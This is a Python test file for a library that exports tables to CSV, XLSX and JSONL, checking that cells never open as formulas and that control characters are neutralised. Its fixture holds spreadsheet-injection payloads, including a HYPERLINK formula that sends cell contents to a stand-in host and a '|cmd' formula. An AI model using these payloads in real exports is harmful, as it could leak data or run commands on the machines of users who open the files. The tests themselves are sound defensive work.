"""Tables for other programs: nothing in them is a formula, and nothing is lost."""

import csv
import json
import logging
import zipfile

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from invented import tables
from test_briefing import save_run

from nblib import export_tables
from nblib.cli import main
from nblib.errors import StorageError, UsageError
from nblib.exports import CONTROL, harmless
from nblib.tables import make_table

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+1",
    "-2+3|cmd",
    "@SUM(1)",
    "\t=1",
    " =1+1",
    "\n=1",
    "＝1+1",
]


@pytest.fixture(autouse=True)
def logs():
    """The command line silences logging; the next test hears it again."""
    yield
    logging.disable(logging.NOTSET)


@pytest.fixture
def hostile():
    rows = [
        {"article_id": f"a{n}", "title": text, "text": "Talks began."}
        for n, text in enumerate(FORMULAS)
    ]
    return {"articles": make_table("articles", rows)}


def read_csv(file):
    with file.open(encoding="utf-8", newline="") as lines:
        return list(csv.DictReader(lines))


def workbook(file):
    with zipfile.ZipFile(file) as parts:
        return {name: parts.read(name).decode("utf-8") for name in parts.namelist()}


def test_a_csv_cell_never_opens_like_a_formula(hostile, tmp_path):
    [file] = export_tables(hostile, tmp_path)
    titles = [row["title"] for row in read_csv(file)]

    assert titles == [f"'{text}" for text in FORMULAS]


@given(st.text())
def test_whatever_the_text_it_opens_no_formula_and_keeps_its_length(text):
    made = harmless(text)
    shown = CONTROL.sub("\ufffd", text)

    assert not made.lstrip().startswith(("=", "+", "-", "@"))
    assert made in (shown, f"'{shown}")
    assert len(shown) == len(text)


def test_a_workbook_has_no_formula_no_link_and_the_whole_text(hostile, tmp_path):
    [file] = export_tables(hostile, tmp_path, to="xlsx")
    parts = workbook(file)

    assert not any("<f>" in part or "hyperlink" in part for part in parts.values())
    assert "HYPERLINK(" in parts["xl/sharedStrings.xml"]
    assert 'quotePrefix="1"' in parts["xl/styles.xml"]


def test_json_lines_are_the_table_as_it_is(hostile, tmp_path):
    [file] = export_tables(hostile, tmp_path, to="jsonl")
    rows = [json.loads(line) for line in file.read_text("utf-8").splitlines()]

    assert [row["title"] for row in rows] == FORMULAS
    assert rows[0]["published"] is None
    assert list(rows[0]) == list(hostile["articles"].columns)


def test_numbers_stay_numbers_and_missing_stays_missing(tmp_path):
    table = pd.DataFrame(
        {
            "n": pd.Series([-3, None], dtype="Int64"),
            "share": pd.Series([0.5, None], dtype="Float64"),
            "sure": pd.Series([True, None], dtype="boolean"),
        }
    )
    [file] = export_tables({"t": table}, tmp_path)
    [lines] = export_tables({"t": table}, tmp_path, to="jsonl")
    [book] = export_tables({"t": table}, tmp_path, to="xlsx")

    assert file.read_text("utf-8") == "n,share,sure\n-3,0.5,True\n,,\n"
    assert json.loads(lines.read_text("utf-8").splitlines()[0]) == {
        "n": -3,
        "share": 0.5,
        "sure": True,
    }
    assert '<c r="A2"><v>-3</v></c>' in workbook(book)["xl/worksheets/sheet1.xml"]


@pytest.mark.parametrize("to", ["csv", "xlsx", "jsonl"])
def test_every_table_of_the_line_goes_out_empty_or_not(to, tmp_path):
    held = tables()
    files = export_tables(held, tmp_path, to=to)

    assert len(files) == (1 if to == "xlsx" else len(held))
    assert all(file.stat().st_size for file in files if to != "jsonl")


@pytest.mark.parametrize("to", ["csv", "xlsx", "jsonl"])
def test_the_same_tables_make_the_same_bytes(to, tmp_path):
    made = []
    for name in ("one", "two"):
        files = export_tables(tables(), tmp_path / name, to=to)
        made.append([file.read_bytes() for file in files])

    assert made[0] == made[1]


def test_text_too_long_for_a_cell_is_cut_and_says_so(tmp_path):
    table = pd.DataFrame({"text": ["x" * 40_000]})
    [file] = export_tables({"t": table}, tmp_path, to="xlsx")

    assert "x…<" in workbook(file)["xl/sharedStrings.xml"]


def test_no_control_character_goes_out_and_offsets_hold(tmp_path):
    text = "Shut\x1b[31m it\x07 \u202enow\x9f, a\ttab"
    table = make_table("articles", [{"article_id": "a", "text": text}])
    [file] = export_tables({"articles": table}, tmp_path)
    [row] = csv.DictReader(file.read_text("utf-8").splitlines())
    [lines] = export_tables({"articles": table}, tmp_path, to="jsonl")

    assert row["text"] == "Shut\ufffd[31m it\ufffd \ufffdnow\ufffd, a\ttab"
    assert not set("\x1b\x07\u202e\x9f") & set(lines.read_text("utf-8"))
    assert json.loads(lines.read_text("utf-8"))["text"] == text


def test_odd_characters_do_not_stop_an_export(tmp_path):
    table = pd.DataFrame({"text": ["\x00\x1b[31m\ud800 a\u2028b"]}, dtype=object)

    for to in ("csv", "xlsx", "jsonl"):
        assert export_tables({"t": table}, tmp_path, to=to)


def test_the_command_exports_the_latest_run_of_a_folder(tmp_path, capsys):
    run = tmp_path / "briefings" / "runs" / "0001-abc"
    save_run(run, {"claims": tables()["claims"]})
    (run.parents[1] / "latest").symlink_to(run)
    out = tmp_path / "out"

    assert main(["export", str(run.parents[1]), "--out", str(out)]) == 0
    assert capsys.readouterr().out.strip() == str(out / "claims.csv")
    assert len(read_csv(out / "claims.csv")) == 3


def test_a_folder_without_tables_is_named(tmp_path, capsys):
    assert main(["export", str(tmp_path)]) == 2
    assert "holds no tables; name a run" in capsys.readouterr().err


def test_a_kind_that_is_not_written_is_named(tmp_path):
    with pytest.raises(UsageError, match="got 'ods'"):
        export_tables({}, tmp_path, to="ods")


def test_a_folder_that_cannot_be_made_is_named(tmp_path):
    (tmp_path / "file").write_text("")

    with pytest.raises(StorageError, match="cannot write to"):
        export_tables(tables(), tmp_path / "file" / "out")
